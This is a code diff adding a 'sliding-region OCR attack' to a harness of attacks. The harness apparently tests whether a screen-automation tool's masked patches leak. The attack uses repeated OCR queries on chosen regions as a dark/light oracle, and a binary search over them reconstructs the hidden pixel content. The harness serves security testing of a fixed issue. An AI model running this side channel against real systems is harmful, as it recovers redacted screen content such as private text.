@@ -316,6 +316,97 @@ def ocr(a):
     return recon
 
 
+def screen_layout(a):
+    """What the attacker knows of the screen: the window (white, from `windows`) on a black desktop,
+    the patches unknown. Returns the known luma minus 128 (0 where unknown), a patch-id map, the window."""
+    import numpy as np
+    ok, r, _ = a.b.call("windows", {"match": TITLE})
+    win = r["windows"][0]
+    ok, s, _ = a.b.call("snapshot", {"screen": True, "settle": False})
+    if not ok:
+        raise SystemExit("screen snapshot failed: %s" % s)
+    W, H = s["width"], s["height"]
+    known = np.full((H, W), -128.0)
+    known[win["y"]:win["y"] + win["height"], win["x"]:win["x"] + win["width"]] = 127.0
+    owner = np.zeros((H, W), dtype=np.int32)
+    for i, (px, py) in enumerate(PATCHES.values(), 1):
+        known[win["y"] + py:win["y"] + py + P, win["x"] + px:win["x"] + px + P] = 0.0
+        owner[win["y"] + py:win["y"] + py + P, win["x"] + px:win["x"] + px + P] = i
+    return s["token"], known, owner, win
+
+
+def slide_predicate(a, token, rect):
+    """One OCR of rect: True when the reply says the region is dark. Before issue 27's fix
+    `inverted` said it exactly (mean luma < 128); without it the best the reply still gives
+    is whether anything was read (the text, or words, or a confidence)."""
+    r = a.ask("ocr", {"token": token, "region": region(*rect)})
+    if r is None:
+        return None
+    if "inverted" in r:
+        a.stats["signal"] = "inverted"
+        return bool(r["inverted"])
+    a.stats["signal"] = "text read"
+    return bool(r.get("text", "").strip() or r.get("words") or r.get("mean_conf"))
+
+
+def ocr_slide(a):
+    """The sliding-region OCR attack of issue 27: for each suffix rectangle [x,32)x[y,32) of a
+    patch, a screen region that holds it and known white and black pixels around it; the
+    bottom and right edges chosen so the known part's sum K sets a threshold, a binary search
+    over thresholds gives the suffix sum S (dark <=> S + K < 0), block sums by difference."""
+    import numpy as np
+    token, known, owner, win = screen_layout(a)
+    H, W = known.shape
+    ps = np.zeros((H + 1, W + 1))
+    ps[1:, 1:] = known.cumsum(0).cumsum(1)
+    foreign = np.zeros((H + 1, W + 1))
+    recon = {}
+    for i, (patch, (px, py)) in enumerate(PATCHES.items(), 1):
+        fo = (owner != 0) & (owner != i)
+        foreign[1:, 1:] = fo.cumsum(0).cumsum(1)
+        X0, Y0 = win["x"] + px, win["y"] + py
+        b = 4 if patch == "text" else 8
+        steps = list(range(0, P, b))
+        S = {}
+        rx = np.arange(X0 + P, min(W, X0 + P + 160) + 1)
+        ry = np.arange(Y0 + P, min(H, Y0 + P + 240) + 1)
+        RX, RY = np.meshgrid(rx, ry)
+        for y in steps:
+            for x in steps:
+                x0, y0 = X0 + x, Y0 + y
+                K = ps[RY, RX] - ps[y0, RX] - ps[RY, x0] + ps[y0, x0]
+                bad = foreign[RY, RX] - foreign[y0, RX] - foreign[RY, x0] + foreign[y0, x0]
+                area = (RX - x0) * (RY - y0)
+                okm = (bad == 0) & (area >= 1024)
+                Ks, ax, ay = K[okm], RX[okm], RY[okm]
+                order = np.argsort(Ks)
+                Ks, ax, ay = Ks[order], ax[order], ay[order]
+                n = (P - x) * (P - y)
+                lo, hi = -128.0 * n, 127.0 * n  # S in [lo, hi]
+                while True:
+                    # S < -K is the answer "dark": pick the threshold nearest the middle
+                    j = int(np.searchsorted(Ks, -(lo + hi) / 2))
+                    cands = [k for k in (j - 1, j) if 0 <= k < len(Ks) and lo < -Ks[k] <= hi]
+                    if not cands:
+                        break
+                    k = min(cands, key=lambda k: abs(-Ks[k] - (lo + hi) / 2))
+                    dark = slide_predicate(a, token, (int(x0), int(y0), int(ax[k] - x0), int(ay[k] - y0)))
+                    if dark is None:
+                        break
+                    if dark:
+                        hi = -Ks[k] - 1
+                    else:
+                        lo = -Ks[k]
+                S[(x, y)] = (lo + hi) / 2
+        est = np.zeros((P, P))
+        for y in steps:
+            for x in steps:
+                s = S[(x, y)] - S.get((x + b, y), 0) - S.get((x, y + b), 0) + S.get((x + b, y + b), 0)
+                est[y:y + b, x:x + b] = 128 + s / (b * b)
+        recon[patch] = [(v, v, v) for v in est.reshape(-1)]
+    return recon
+
+
 def derived(a):
     """The diff heatmap of the patch against white is a token of its own: ask about it instead."""
     ok, r, _ = a.b.call("diff", {"a": {"token": a.token}, "b": {"attachment": 0}}, [a.flat((255, 255, 255))])
@@ -399,7 +490,7 @@ def accept_zones(a):
 
 
 ATTACKS = {f.__name__: f for f in (hash_region, snapshot_digest, dhash, diff_threshold, assert_bisect, template,
-                                   pointer_template, ocr, derived, fresh_snapshots, accept_zones_prepare, accept_zones)}
+                                   pointer_template, ocr, ocr_slide, derived, fresh_snapshots, accept_zones_prepare, accept_zones)}
 
 if __name__ == "__main__":
     name, out = sys.argv[1], sys.argv[2]
